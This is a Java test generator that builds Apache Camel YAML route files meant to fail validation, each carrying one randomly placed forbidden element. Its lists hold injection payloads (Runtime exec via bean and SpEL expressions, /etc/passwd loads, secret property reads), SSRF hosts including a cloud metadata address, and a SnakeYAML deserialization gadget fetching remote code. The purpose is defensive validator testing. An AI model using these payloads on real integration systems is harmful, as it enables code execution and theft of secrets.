package vn.lienthong.route.made;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.yaml.snakeyaml.DumperOptions;
import org.yaml.snakeyaml.Yaml;

/** Makes route files that must not pass: one thing that is forbidden, at a place and in a spelling drawn by chance, in a file that is good but for it. */
final class ForbiddenRoutes {
    private static final List<String> COMPONENTS = words("""
            bean class exec file http https ftp sftp ftps jdbc sql jms kafka seda vm ssh docker language script xslt xslt-saxon
            velocity freemarker mvel groovy controlbus dataset mock stub ref rest rest-api netty netty-http undertow jetty servlet
            platform-http cxf spring-ws mail smtp imap pop3 ldap git log quartz scheduler kamelet validator xpath browse saga
            dataformat reactive-streams aws2-s3 azure-storage-blob telegram direct-vm properties rmi jcr CONNECTOR Direct bean-
            validator spring-event event nitrite mybatis jpa elasticsearch pg-replication-slot debezium-postgres
            """);
    private static final List<String> STEPS = words("""
            bean process script toD recipientList dynamicRouter routingSlip enrich pollEnrich poll wireTap kamelet marshal unmarshal
            convertBodyTo transform setBody loadBalance idempotentConsumer aggregate resequence sort split threads throwException
            rollback transacted policy saga serviceCall validate circuitBreaker claimCheck interceptSendToEndpoint onCompletion
            onFallback doTry doCatch doFinally loop sample pausable resumable removeHeaders removeProperties setHeaders setVariable
            setVariables removeVariable tokenizer to-d recipient-list wire-tap set-body set-header ToD TO tod BEAN
            setExchangePattern convertHeaderTo convertVariableTo transformDataType throttle step pipeline from route steps uri
            """);
    private static final List<String> LANGUAGES = words("""
            csimple datasonnet exchangeProperty groovy header hl7terser java joor jq js jsonpath language method mvel ognl python
            ref spel tokenize variable wasm xpath xquery xtokenize bean Simple SIMPLE Constant file sql
            """);
    private static final List<String> FUNCTIONS = parts("""
            ${bean:evil}  |  ${bean:type:java.lang.Runtime?method=exec}  |  ${ref:secrets}  |  ${type:java.lang.Runtime}
            ${env:HOME}  |  ${env.PATH}  |  ${sysenv.PATH}  |  ${sys.user.home}  |  ${sys:java.home}  |  ${body}
            ${bodyAs(String)}  |  ${bodyOneLine}  |  ${body.class}  |  ${body.getClass().forName('java.lang.Runtime')}  |  ${in.body}
            ${mandatoryBodyAs(String)}  |  ${prettyBody}  |  ${camelContext}  |  ${camelContext.stop()}  |  ${camelId}
            ${exchange}  |  ${exchange.context.registry}  |  ${exception.stacktrace}  |  ${exception.message}  |  ${headers}
            ${headers.x.class}  |  ${header.x.class.classLoader}  |  ${header.x[0]}  |  ${header.CamelFileName}
            ${header.camelHttpUri}  |  ${header[CamelHttpUri]}  |  ${headerAs(x,java.lang.Class)}  |  ${variable.x}  |  ${variables}
            ${properties:db.password}  |  ${propertiesExist:db.password}  |  ${messageAs(String)}  |  ${jsonpath($.x)}  |  ${jq(.x)}
            ${xpath(/x)}  |  ${date:now:yyyy}  |  ${random(1,10)}  |  ${uuid}  |  ${hash(x)}  |  ${function:x}  |  ${replace(a,b)}
            ${substring(1,2)}  |  ${collate(3)}  |  ${skip(1)}  |  ${join(,)}  |  ${messageHistory}  |  ${threadName}  |  ${threadId}
            ${hostname}  |  ${routeGroup}  |  ${iif(1,2,3)}  |  ${load(file:/etc/passwd)}  |  ${pretty(x)}  |  ${toJson}
            ${attachments}  |  ${attachmentContent(x)}  |  ${exchangeProperty.x.class}  |  ${exchangeProperty.CamelTimerName}
            $simple{bean:evil}  |  ${header.x  |  {{env:HOME}}  |  {{sys:user.home}}  |  {{service:db}}  |  {{secret}}  |  {{?x}}
            {{x:default}}  |  resource:classpath:application.yaml  |  resource:file:/etc/passwd  |  resource:http://10.0.0.1/x
            RESOURCE:file:x  |  ${header.x} ~> ${bean:evil}  |  ${header.x} ? 'a' : 'b'  |  ${empty(list)}  |  #{systemProperties}
            #bean:evil  |  T(java.lang.Runtime).getRuntime()  |  ${header.orgApacheX}  |  ${HEADER.x}  |  ${header:x}
            ${exchangeId.class}
            """);
    private static final List<String> HOSTS = parts("""
            10.0.0.1  |  127.0.0.1  |  localhost  |  LOCALHOST  |  [::1]  |  [fd00::1]  |  0x7f000001  |  0x7f.1
            smas.hanoi.example  |  db:5432  |  smas.hanoi.example:5432  |  http://smas/  |  https://u:p@smas/  |  //smas/x
            jdbc:postgresql://db/x  |  169.254.169.254  |  ldap://x  |  192.168.1.1:80  |  ftp://x  |  file:/etc/passwd
            \\\\smas\\c$  |  smas.hanoi.example.
            """);
    private static final List<String> REFERENCES = List.of(
            "#evil",
            "#bean:evil",
            "#class:java.lang.Runtime",
            "#type:javax.sql.DataSource",
            "#valueAs(int):5",
            "#property:x",
            "#autowired",
            "RAW(x)",
            "RAW{x}",
            "{{x}}",
            "{{env:X}}",
            "${x}",
            "${header.x}",
            "${secret:smas/password}",
            "$simple{x}",
            "%23evil",
            "%7B%7Bx%7D%7D",
            "1&exchangePattern=InOnly",
            "1?x=y",
            "1#",
            "1;2",
            "-1",
            "1e9",
            "99999999999",
            "NaN",
            " 5",
            "5 ",
            "",
            "1,2",
            "true",
            "\u0661");
    private static final List<String> HEADERS = List.of(
            "CamelHttpUri",
            "CamelFileName",
            "camelHttpUri",
            "CAMELHTTPURI",
            "cAmElBeanMethodName",
            "CamelJdbcUrl",
            "org.apache.camel.x",
            "orgX",
            "Authorization",
            "x-y",
            "x y",
            "x.y",
            "${header.y}",
            "{{x}}",
            "#x",
            "",
            "1x",
            "Content-Type",
            "camel",
            "camel_x",
            "x\u0000",
            "\u0441amelHttpUri");

    private final Random random;

    private static List<String> words(String text) {
        return List.of(text.strip().split("\\s+"));
    }

    private static List<String> parts(String text) {
        return List.of(text.strip().split("\\s+\\|\\s+|\\n"));
    }

    ForbiddenRoutes(long seed) {
        this.random = new Random(seed);
    }

    /** The same file with nothing forbidden in it. */
    String harmless() {
        return step("", Map.of("to", "connector:hcm-school/teachers?act=read")).getValue();
    }

    /** The next file, with the word for what is forbidden in it. */
    Map.Entry<String, String> next() {
        return switch (random.nextInt(16)) {
            case 0 ->
                step(
                        "component",
                        Map.of("to", any(COMPONENTS) + any(":x", "://x", ":name?x=1", ":class:java.lang.Runtime", "")));
            case 1 ->
                step(
                        "component, long",
                        Map.of(
                                "to",
                                ordered(
                                        "uri",
                                        any(COMPONENTS) + ":" + any("x", "//h/x", "evil"),
                                        "parameters",
                                        Map.of("x", "y"))));
            case 2 ->
                step(
                        "step",
                        Map.of(
                                any(STEPS),
                                any(
                                        anything(),
                                        "direct:next",
                                        ordered("uri", "direct:next"),
                                        ordered("ref", "evil"),
                                        ordered("steps", List.of()))));
            case 3 ->
                step(
                        "language",
                        expressive(Map.of(
                                any(LANGUAGES),
                                any("x", ordered("expression", "x"), ordered("ref", "x", "method", "run")))));
            case 4 ->
                step("function", expressive(simple(any("", "a ", "${header.a} ") + any(FUNCTIONS) + any("", " b"))));
            case 5 ->
                step(
                        "condition",
                        condition(simple(any("", "${header.rows} > 0 && ", "${header.rows} > 0 || ")
                                + any(FUNCTIONS)
                                + any(
                                        "",
                                        " > 0",
                                        " == 'a'",
                                        " contains 'b'",
                                        " regex '(a+)+'",
                                        " is 'java.lang.String'",
                                        " in '1,2'",
                                        " range '1..2'",
                                        " not contains 'x'",
                                        " =~ 'x'"))));
            case 6 ->
                step(
                        "function in a log",
                        Map.of(
                                "log",
                                any(
                                        any(FUNCTIONS),
                                        ordered("message", any(FUNCTIONS)),
                                        ordered("message", "x", "logger", "#x"),
                                        ordered("message", "x", "logName", "x"))));
            case 7 ->
                step(
                        "host",
                        Map.of(
                                "to",
                                any(
                                        "connector:" + any(HOSTS) + any("", "/pupils?act=read", "/x"),
                                        "connector:hcm-school/" + any(HOSTS) + "/x?act=read",
                                        "connector:hcm-school/teachers?act=read&host=" + any(HOSTS),
                                        ordered(
                                                "uri",
                                                "connector:hcm-school/teachers",
                                                "parameters",
                                                ordered(
                                                        "act",
                                                        "read",
                                                        any("host", "url", "baseUrl", "most", "columns"),
                                                        any(HOSTS))))));
            case 8 ->
                step(
                        "reference",
                        Map.of(
                                "to",
                                ordered(
                                        "uri",
                                        "connector:hcm-school/teachers",
                                        "parameters",
                                        ordered("act", "read", "most", any(REFERENCES)))));
            case 9 ->
                step(
                        "reference, short",
                        Map.of(
                                "to",
                                "connector:hcm-school/teachers?act=read&most=" + any(REFERENCES)
                                        + any("", "&columns=a")));
            case 10 ->
                step(
                        "header",
                        any(
                                Map.of(any("setHeader", "setProperty"), ordered("name", any(HEADERS), "constant", "x")),
                                Map.of(any("removeHeader", "removeProperty"), ordered("name", any(HEADERS))),
                                Map.of("removeHeader", ordered("name", "x", "pattern", "*"))));
            case 11 -> step("key", withKey());
            case 12 ->
                step(
                        "undeclared or nowhere",
                        Map.of(
                                "to",
                                any(
                                        "connector:other-" + random.nextInt(99) + "/pupils?act=read",
                                        "connector:hcm-school/teachers?act="
                                                + any("write&mode=append", "call", "follow", "delete", "READ"),
                                        "connector:csdl/teachers?act="
                                                + any(
                                                        "read",
                                                        "call",
                                                        "write",
                                                        "write&mode=upsert",
                                                        "write&mode=replace&key=a"),
                                        "direct:"
                                                + any(
                                                        "nowhere",
                                                        "sync.pupils",
                                                        "service.pupil-status.v1",
                                                        "camel.a.b",
                                                        "next?timeout=1",
                                                        "begin",
                                                        ""),
                                        "timer:x?period=1000",
                                        "direct://next")));
            case 13 -> top();
            case 14 -> route();
            default -> yaml();
        };
    }

    private Object anything() {
        return any(
                "x",
                "ref:evil",
                ordered("ref", "evil"),
                ordered("beanType", "java.lang.Runtime", "method", "exec"),
                ordered("expression", ordered("simple", "${header.x}")),
                ordered("constant", "direct:next"));
    }

    private Map<String, Object> withKey() {
        String key = any(
                "ref",
                "bean",
                "class",
                "beanType",
                "method",
                "executorService",
                "executorServiceRef",
                "onPrepare",
                "aggregationStrategy",
                "aggregationStrategyMethodName",
                "parallelProcessing",
                "shareUnitOfWork",
                "password",
                "username",
                "secret",
                "token",
                "resultType",
                "trim",
                "script",
                "disabled",
                "note",
                "variableSend",
                "variableReceive",
                "pattern",
                "inheritErrorHandler",
                "onWhen",
                "precondition",
                "logger",
                "marker",
                "logLanguage",
                "processRef",
                "uri",
                "parameters",
                "dataFormat",
                "if-steps",
                "Steps",
                "<<",
                "description",
                "id");
        Object value = any("x", "#x", true, ordered("ref", "x"), List.of("x"), "direct:next");
        Map<String, Object> holder = new LinkedHashMap<>();
        String step = any("filter", "multicast", "stop", "delay", "setHeader", "removeHeader", "log", "choice", "to");
        Object steps = List.of(Map.of("to", "direct:next"));
        switch (step) {
            case "filter" -> holder.putAll(ordered("simple", "${header.rows} > 0", "steps", steps));
            case "multicast" -> holder.put("steps", steps);
            case "delay" -> holder.put("constant", "1000");
            case "setHeader" -> holder.putAll(ordered("name", "a", "constant", "x"));
            case "removeHeader" -> holder.put("name", "a");
            case "log" -> holder.put("message", "a");
            case "choice" -> holder.put("when", List.of(ordered("simple", "${header.rows} > 0", "steps", steps)));
            case "to" -> {
                holder.put("uri", "direct:next");
                key = key.equals("uri") || key.equals("parameters") || key.equals("id") ? "ref" : key;
            }
            default -> {}
        }
        holder.put(key, value);
        return Map.of(step, holder);
    }

    private Map.Entry<String, String> top() {
        Object evil = any(
                Map.of(
                        any(
                                "beans",
                                "bean",
                                "dataFormats",
                                "rest",
                                "restConfiguration",
                                "routeTemplate",
                                "templatedRoute",
                                "routeConfiguration",
                                "onException",
                                "onCompletion",
                                "intercept",
                                "interceptFrom",
                                "interceptSendToEndpoint",
                                "errorHandler",
                                "error-handler",
                                "route-template",
                                "on-exception",
                                "Route",
                                "ROUTE",
                                "from",
                                "transformers",
                                "validators",
                                "kamelet",
                                "template",
                                "apiVersion",
                                "pipe"),
                        any(
                                "x",
                                List.of(ordered("name", "evil", "type", "java.lang.Runtime")),
                                ordered("ref", "x"),
                                ordered("uri", "timer:x?period=1000", "steps", List.of(Map.of("to", "direct:next"))),
                                ordered("deadLetterChannel", ordered("deadLetterUri", "direct:next")),
                                ordered("path", "/x", "get", List.of(Map.of("to", "direct:next"))))),
                "x",
                List.of(),
                5,
                Map.of());
        List<Object> file = file(List.of(Map.of("to", "direct:next")));
        file.add(random.nextInt(file.size() + 1), evil);
        return Map.entry("top", dump(file));
    }

    @SuppressWarnings("unchecked")
    private Map.Entry<String, String> route() {
        List<Object> file = file(List.of(Map.of("to", "direct:next")));
        Map<String, Object> route =
                (Map<String, Object>) ((Map<String, Object>) file.get(1 + random.nextInt(2))).get("route");
        switch (random.nextInt(8)) {
            case 0 -> route.remove(any("id", "group", "description", "errorHandler", "from"));
            case 1 ->
                route.put(
                        "errorHandler",
                        any(
                                ordered("noErrorHandler", Map.of()),
                                ordered("refErrorHandler", any("evil", ordered("ref", "evil"))),
                                "evil",
                                ordered("springTransactionErrorHandler", Map.of()),
                                ordered("jtaTransactionErrorHandler", Map.of()),
                                ordered(
                                        "defaultErrorHandler",
                                        ordered(
                                                any(
                                                        "onRedeliveryRef",
                                                        "retryWhileRef",
                                                        "loggerRef",
                                                        "executorServiceRef",
                                                        "onPrepareFailureRef",
                                                        "redeliveryPolicyRef",
                                                        "logName"),
                                                any("evil", "#bean:evil"))),
                                ordered(
                                        "deadLetterChannel",
                                        ordered(
                                                "deadLetterUri",
                                                any(
                                                        "file:/tmp/x",
                                                        "bean:evil",
                                                        "log:x",
                                                        "direct:nowhere",
                                                        "connector:csdl/teachers?act=write&mode=append",
                                                        "http://10.0.0.1"))),
                                ordered(
                                        "deadLetterChannel",
                                        ordered(
                                                "deadLetterUri",
                                                "direct:next",
                                                "useOriginalMessage",
                                                any("#x", "maybe"))),
                                ordered(
                                        "defaultErrorHandler",
                                        ordered(
                                                "redeliveryPolicy",
                                                ordered("maximumRedeliveries", any(-1, 11, 1_000_000, "{{x}}")))),
                                ordered(
                                        "defaultErrorHandler",
                                        ordered(
                                                "redeliveryPolicy",
                                                ordered(
                                                        any(
                                                                "delayPattern",
                                                                "exchangeFormatterRef",
                                                                "retryAttemptedLogLevel"),
                                                        "x"))),
                                ordered("defaultErrorHandler", Map.of(), "noErrorHandler", Map.of()),
                                Map.of(),
                                List.of()));
            case 2 ->
                route.put(
                        any(
                                "errorHandlerRef",
                                "routePolicy",
                                "routePolicyRef",
                                "routeConfigurationId",
                                "precondition",
                                "inputType",
                                "outputType",
                                "shutdownRoute",
                                "trace",
                                "logMask",
                                "streamCache",
                                "startupOrder",
                                "autoStartup",
                                "nodePrefixId",
                                "note",
                                "routeTemplateRef",
                                "template",
                                "parameters",
                                "beans",
                                "onException",
                                "error-handler",
                                "route-policy",
                                "steps",
                                "password",
                                "ErrorHandler",
                                "error_handler",
                                "messageHistory",
                                "onCompletion",
                                "intercept"),
                        any("x", true, 1, "{{x}}", "#bean:x", ordered("ref", "x")));
            case 3 ->
                route.put(
                        "id",
                        any(
                                "sync.pupils",
                                "Upper",
                                "a b",
                                "../x",
                                "",
                                "x".repeat(64),
                                "{{x}}",
                                "${x}",
                                5,
                                List.of(),
                                "a/b",
                                "service.x.v1",
                                "\u0430",
                                "-a"));
            case 4 ->
                route.put(
                        any("description", "group"),
                        any(
                                "",
                                "{{env:X}}",
                                "${bean:x}",
                                "http://10.0.0.1/",
                                "db.example:5432",
                                "password: " + random.nextInt(),
                                5,
                                List.of("x"),
                                "a\nb{{x}}",
                                "#bean:x",
                                "token=" + random.nextLong(),
                                "127.0.0.1",
                                "Bearer abcdefgh" + random.nextInt()));
            case 5 ->
                route.put(
                        "from",
                        any(
                                "timer:x?period=1000",
                                ordered("uri", any(COMPONENTS) + ":x", "steps", List.of(Map.of("to", "direct:next"))),
                                ordered(
                                        "uri",
                                        "connector:hcm-school/teachers?act=read",
                                        "steps",
                                        List.of(Map.of("to", "direct:next"))),
                                ordered("uri", "timer:x", "steps", List.of(Map.of("to", "direct:next"))),
                                ordered("uri", "timer:x?period=1", "steps", List.of(Map.of("to", "direct:next"))),
                                ordered(
                                        "uri",
                                        "timer:x?period=1000&"
                                                + any(
                                                        "synchronous=true",
                                                        "pattern=x",
                                                        "time=1",
                                                        "timer=#x",
                                                        "exchangePattern=InOut",
                                                        "bridgeErrorHandler=true",
                                                        "exceptionHandler=#x",
                                                        "daemon=false"),
                                        "steps",
                                        List.of(Map.of("to", "direct:next"))),
                                ordered("uri", "direct:other" + random.nextInt(), "steps", List.of()),
                                ordered("uri", "direct:other", "steps", "x"),
                                ordered("uri", "direct:other"),
                                ordered("steps", List.of(Map.of("to", "direct:next"))),
                                ordered(
                                        "uri",
                                        "direct:other",
                                        "parameters",
                                        ordered("x", "y"),
                                        "steps",
                                        List.of(Map.of("to", "direct:next"))),
                                ordered(
                                        "uri",
                                        "direct:other",
                                        "variableReceive",
                                        "x",
                                        "steps",
                                        List.of(Map.of("to", "direct:next")))));
            case 6 -> { // round and round
                Map<String, Object> next = (Map<String, Object>) ((Map<String, Object>) file.get(2)).get("route");
                ((Map<String, Object>) next.get("from"))
                        .put("steps", nest(List.of(Map.of("to", any("direct:next", ordered("uri", "direct:next"))))));
            }
            default -> {
                Map<String, Object> declared =
                        (Map<String, Object>) ((Map<String, Object>) file.get(0)).get("lienthong");
                if (random.nextBoolean()) {
                    declared.remove("agency");
                } else {
                    declared.put(
                            any("agency", "reads", "writes", "calls", "host", "password", "uses", "follows", "Reads"),
                            any(
                                    "",
                                    "g03 x",
                                    5,
                                    List.of("x"),
                                    List.of(),
                                    "hcm-school",
                                    List.of("a/b/c"),
                                    List.of("*/*"),
                                    List.of("../x"),
                                    "{{x}}",
                                    List.of("10.0.0.1:5432/x")));
                }
            }
        }
        return Map.entry("route", dump(file));
    }

    private Map.Entry<String, String> yaml() {
        String good = dump(file(nest(List.of(Map.of("to", "direct:next")))));
        String line = good.substring(0, good.indexOf('\n') + 1);
        int n = random.nextInt(1_000_000);
        String evil = any(
                "- &a" + n + " {route: 1}\n- *a" + n + "\n" + good,
                good.replace("group: nightly", "group: !!java.lang.Runtime " + n),
                good.replace("group: nightly", "group: !evil nightly" + n),
                good.replace("group: nightly", "group: nightly\n    group: twice-" + n),
                good.replace("group: nightly", "group: &g nightly-" + n + "\n    note: *g"),
                good.replace("group: nightly", "group: nightly-" + n + "\n    <<: {note: x}"),
                good.replace("group: nightly", "? [complex, " + n + "]\n    : x\n    group: nightly"),
                good.replace("description:", "description: twice " + n + "\n    description:"),
                good.replace("id: begin", "id: begin\n    id: other-" + n),
                "%TAG ! tag:evil," + n + ":\n---\n- !x\n" + good,
                good + "---\n- route: " + n + "\n",
                good + "\n\t- bad: " + n + "\n",
                "lienthong: {agency: G03}\nn" + n + ": x\n",
                "# " + n + "\n",
                "# " + n + "\n[]\n",
                "null # " + n + "\n",
                good
                        + "- !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://10.0.0.1/"
                        + n + "\"]]]]\n",
                "[".repeat(60) + n + "]".repeat(60),
                "- " + "x".repeat(5) + "{" + n + "\n",
                "# camel-k: dependency=mvn:evil:evil:" + n + "\n- from: {uri: 'timer:x', steps: []}\n" + line);
        return Map.entry("yaml", evil);
    }

    private Map.Entry<String, String> step(String what, Map<String, ?> step) {
        List<Object> around = new ArrayList<>(List.of(Map.of("to", "connector:hcm-school/teachers?act=read")));
        around.add(random.nextInt(2), step);
        return Map.entry(what, dump(file(nest(around))));
    }

    private Map<String, Object> expressive(Map<String, ?> expression) {
        Map<String, Object> holder = ordered("name", "a");
        put(holder, expression);
        return Map.of(any("setHeader", "setProperty"), holder);
    }

    private Map<String, Object> condition(Map<String, ?> expression) {
        Map<String, Object> holder = ordered("steps", List.of(Map.of("to", "direct:next")));
        put(holder, expression);
        return random.nextBoolean() ? Map.of("filter", holder) : Map.of("choice", ordered("when", List.of(holder)));
    }

    private void put(Map<String, Object> holder, Map<String, ?> expression) {
        if (random.nextBoolean()) {
            holder.putAll(expression);
        } else {
            holder.put("expression", expression);
        }
    }

    private Map<String, ?> simple(String text) {
        return random.nextBoolean() ? Map.of("simple", text) : Map.of("simple", Map.of("expression", text));
    }

    /** These steps within so many others. */
    private List<Object> nest(List<?> steps) {
        List<Object> inner = new ArrayList<>(steps);
        for (int depth = random.nextInt(4); depth > 0; depth--) {
            Object holder =
                    switch (random.nextInt(4)) {
                        case 0 -> Map.of("filter", ordered("simple", "${header.rows} > 0", "steps", inner));
                        case 1 -> Map.of("multicast", ordered("steps", inner));
                        case 2 ->
                            Map.of(
                                    "choice",
                                    ordered("when", List.of(ordered("simple", "${header.rows} > 0", "steps", inner))));
                        default ->
                            Map.of(
                                    "choice",
                                    ordered(
                                            "when",
                                            List.of(ordered(
                                                    "simple",
                                                    "${header.rows} > 0",
                                                    "steps",
                                                    List.of(Map.of("stop", Map.of())))),
                                            "otherwise",
                                            ordered("steps", inner)));
                    };
            inner = new ArrayList<>(List.of(holder));
        }
        return inner;
    }

    private static List<Object> file(List<?> steps) {
        List<Object> file = new ArrayList<>();
        file.add(ordered(
                "lienthong",
                ordered(
                        "agency",
                        "G03",
                        "reads",
                        List.of("hcm-school/teachers"),
                        "writes",
                        List.of("csdl/teachers_seen"))));
        file.add(ordered("route", route("begin", ordered("uri", "timer:begin?period=60000", "steps", steps))));
        file.add(ordered(
                "route",
                route(
                        "next",
                        ordered("uri", "direct:next", "steps", List.of(Map.of("log", ordered("message", "next")))))));
        return file;
    }

    private static Map<String, Object> route(String id, Map<String, Object> from) {
        return ordered(
                "id",
                id,
                "group",
                "nightly",
                "description",
                "Teachers, every night",
                "errorHandler",
                ordered("defaultErrorHandler", Map.of()),
                "from",
                from);
    }

    private String dump(Object file) {
        DumperOptions options = new DumperOptions();
        options.setDefaultFlowStyle(any(
                DumperOptions.FlowStyle.BLOCK,
                DumperOptions.FlowStyle.BLOCK,
                DumperOptions.FlowStyle.FLOW,
                DumperOptions.FlowStyle.AUTO));
        options.setIndent(2);
        options.setWidth(500);
        return new Yaml(options) {
            @Override
            public String dump(Object data) {
                return super.dump(plain(data));
            }
        }.dump(file);
    }

    /** No two places share an object: the dumper would write an alias. */
    private static Object plain(Object data) {
        if (data instanceof Map<?, ?> map) {
            Map<Object, Object> copy = new LinkedHashMap<>();
            map.forEach((key, value) -> copy.put(key, plain(value)));
            return copy;
        }
        return data instanceof List<?> list
                ? new ArrayList<>(list.stream().map(ForbiddenRoutes::plain).toList())
                : data;
    }

    private static Map<String, Object> ordered(Object... pairs) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put((String) pairs[i], pairs[i + 1]);
        }
        return map;
    }

    @SafeVarargs
    private <T> T any(T... choices) {
        return choices[random.nextInt(choices.length)];
    }

    private <T> T any(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
